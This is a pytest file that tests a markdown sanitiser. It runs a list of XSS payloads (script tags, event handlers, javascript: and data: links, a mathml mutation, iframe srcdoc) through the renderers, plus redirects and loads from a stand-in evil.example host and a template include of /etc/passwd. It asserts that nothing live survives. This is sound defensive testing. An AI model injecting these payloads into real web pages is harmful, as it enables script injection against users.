"""Controls 7 and 9: other people's text on our pages."""

import re
import time
from html.parser import HTMLParser

import pytest

pytest.importorskip("nh3")

from instructloop.web.markdown import TAGS, model_html, safe_html, visible

PAYLOADS = {
    "script tag": "<script>window.__xss=1</script>",
    "script in another case": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "image with handler": '<img src=x onerror="window.__xss=1">',
    "svg with handler": "<svg/onload=window.__xss=1>",
    "nested svg script": "<svg><script>window.__xss=1</script></svg>",
    "mathml mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.__xss=1&gt;'>",
    "iframe with document": '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "object": "<object data='data:text/html,<script>window.__xss=1</script>'></object>",
    "details that opens": "<details open ontoggle=window.__xss=1>x</details>",
    "link to a script": "[click](javascript:window.__xss=1)",
    "link to a script with tab": "[click](java\tscript:window.__xss=1)",
    "link to a script by entity": "[click](&#106;avascript:window.__xss=1)",
    "reference link to a script": "[click][1]\n\n[1]: javascript:window.__xss=1",
    "link to data": "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    "link to vbscript": "<vbscript:msgbox(1)>",
    "image from elsewhere": "![pixel](https://evil.example/pixel.gif)",
    "title that breaks out": '[x](https://example.org "\\" onmouseover=\\"window.__xss=1")',
    "code fence that breaks out": '```html"><script>window.__xss=1</script>\nx\n```',
    "style that loads": "<style>@import 'https://evil.example/x.css';</style>",
    "form that posts": '<form action="https://evil.example"><button>Submit</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "template expression": "{{ config }} {% include '/etc/passwd' %}",
    "comment that hides": "<!--><img src=x onerror=window.__xss=1>-->",
    "attribute of a heading": "# <a href=x onclick=window.__xss=1>x</a>",
    "table cell": "| a |\n|---|\n| <img src=x onerror=window.__xss=1> |",
}


class Elements(HTMLParser):
    """What a browser would make of it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("name", PAYLOADS)
@pytest.mark.parametrize("render", [safe_html, model_html, visible])
def test_nothing_live_comes_out_of_hostile_text(name: str, render: object) -> None:
    html = str(render(PAYLOADS[name]))  # type: ignore[operator]
    for tag, attributes in Elements(html).found:
        assert tag in TAGS
        assert tag != "img"
        assert set(attributes) <= {"href", "title", "rel", "class", "start", "align"}
        assert re.match(r"https?://", attributes.get("href") or "https://")
        assert not any(key.startswith("on") for key in attributes)


def test_links_of_guidelines_leave_no_trace_and_links_of_models_are_dead() -> None:
    assert (
        safe_html("[docs](https://example.org/a)") == '<p><a href="https://example.org/a" rel="nofollow noopener noreferrer">docs</a></p>\n'
    )
    dead = model_html("[docs](https://example.org/a) and <https://example.org>")
    assert "<a" not in dead
    assert '<span class="inert-link">docs</span> (https://example.org/a)' in dead
    assert dead.count("https://example.org<") == 1


def test_headings_fit_below_the_page_s_own() -> None:
    assert "<h2>One</h2>" in safe_html("# One")
    assert "<h3>Two</h3>" in safe_html("## Two")
    assert model_html("# One") == "<p>One</p>\n"


def test_direction_marks_and_zero_width_signs_are_shown_as_tokens() -> None:
    shown = str(visible("pay \u202egnihton\u202c now\u200b\u2066x\u2069\u00ad\x07"))
    for name in ("RLO", "PDF", "ZWSP", "LRI", "PDI", "SHY", "U+0007"):
        assert f"⟦{name}⟧" in shown
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b\u00ad\x07]", shown)
    assert "\u202e" not in model_html("a \u202eb")
    assert "\U000e0041" not in visible("hidden \U000e0041\U000e0042 tags")


def test_joiners_that_languages_and_emoji_need_stay() -> None:
    assert visible("می\u200cخواهم 👩\u200d💻\tzwei\nZeilen") == "می\u200cخواهم 👩\u200d💻\tzwei\nZeilen"


def test_plain_text_is_escaped_once() -> None:
    assert visible("1 < 2 & 3 > 2 \"'") == "1 &lt; 2 &amp; 3 &gt; 2 &#34;&#39;"


def test_a_nested_code_fence_stays_code() -> None:
    html = safe_html("````\n```html\n<button>Submit</button>\n```\n````")
    assert html.count("<pre>") == 1
    assert "<button" not in html


def test_rendering_again_is_free() -> None:
    text = "\n\n".join(f"Paragraph {index} with *emphasis* and `code`." for index in range(100))
    safe_html(text)
    begin = time.perf_counter()
    for _ in range(100):
        safe_html(text)
    assert time.perf_counter() - begin < 0.01
